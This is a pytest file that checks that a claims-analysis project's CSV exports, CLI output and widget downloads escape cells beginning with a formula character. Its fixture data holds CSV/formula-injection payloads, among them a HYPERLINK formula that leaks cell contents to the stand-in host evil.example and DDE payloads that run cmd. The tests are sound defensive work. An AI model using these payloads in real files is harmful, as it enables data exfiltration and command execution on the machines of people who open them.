"""Every CSV the project writes is safe to open in a spreadsheet: no cell starts a formula."""

from __future__ import annotations

import base64
import csv
import io
import re
from pathlib import Path

import pytest
from click.testing import CliRunner

from claims import review
from claims.cli import cli
from claims.csvsafe import FORMULA_STARTS
from claims.export import export
from claims.pipeline import ingest
from claims.query import select
from claims.reader import from_text
from claims.store import OxigraphStore, Store
from claims.widgets.explorer import Explorer
from claims.widgets.workbench import Workbench

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1"]
TEXT = "\n\n".join(f'Vladimir Putin said: "{f} is what he wrote in the message."' for f in FORMULAS)


def _unsafe(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(FORMULA_STARTS)]


@pytest.fixture
def store(tmp_path: Path) -> Store:
    store = OxigraphStore(tmp_path / "kb")
    report = ingest([from_text(TEXT, id="hostile", title="=1+1 title")], store)
    assert report.statements > 0
    first = select(store, "article_statements")["statement"].iloc[0]
    review.record(store, first, "misattributed", reviewer="=1+1", note="=1+1",
                  corrected_speaker="@Ana")
    return store


def test_the_hostile_cells_are_there_to_be_neutralised(store: Store) -> None:
    frame = select(store, "article_statements")
    assert any(str(t).startswith(FORMULA_STARTS) for t in frame["text"])


def test_export_csv(store: Store) -> None:
    text = export(store, "csv").decode("utf-8")
    assert _unsafe(text) == []
    assert "'=1+1" in text


def test_cli_csv_output(store: Store, tmp_path: Path) -> None:
    store.close()
    runner, checked = CliRunner(), 0
    for args in (["query", "article_statements"], ["review", "history"],
                 ["sparql", "SELECT ?t WHERE { GRAPH ?g { ?s <https://schema.org/text> ?t } }"],
                 ["export", "--format", "csv"]):
        result = runner.invoke(cli, [*args, "--store", str(tmp_path / "kb"),
                                     *(["--format", "csv"] if args[0] != "export" else [])])
        if result.exit_code == 2 and "No such option" in result.output:
            continue  # a command without --format csv
        assert result.exit_code == 0, (args, result.output)
        assert _unsafe(result.output) == [], args
        checked += 1
    assert checked >= 3


def test_explorer_csv(store: Store) -> None:
    explorer = Explorer(store)
    text = explorer.export_csv()
    assert _unsafe(text) == [] and "'=HYPERLINK" in text
    link = re.search(r"base64,([^\"]+)", explorer.download.value)
    assert link and _unsafe(base64.b64decode(link[1]).decode("utf-8")) == []


def test_workbench_csv(store: Store) -> None:
    bench = Workbench(store)
    bench.editor.value = "SELECT ?t WHERE { GRAPH ?g { ?s schema:text ?t } }"
    bench.run()
    link = re.search(r"base64,([^\"]+)", bench.download.value)
    assert link
    text = base64.b64decode(link[1]).decode("utf-8")
    assert _unsafe(text) == [] and "'=HYPERLINK" in text
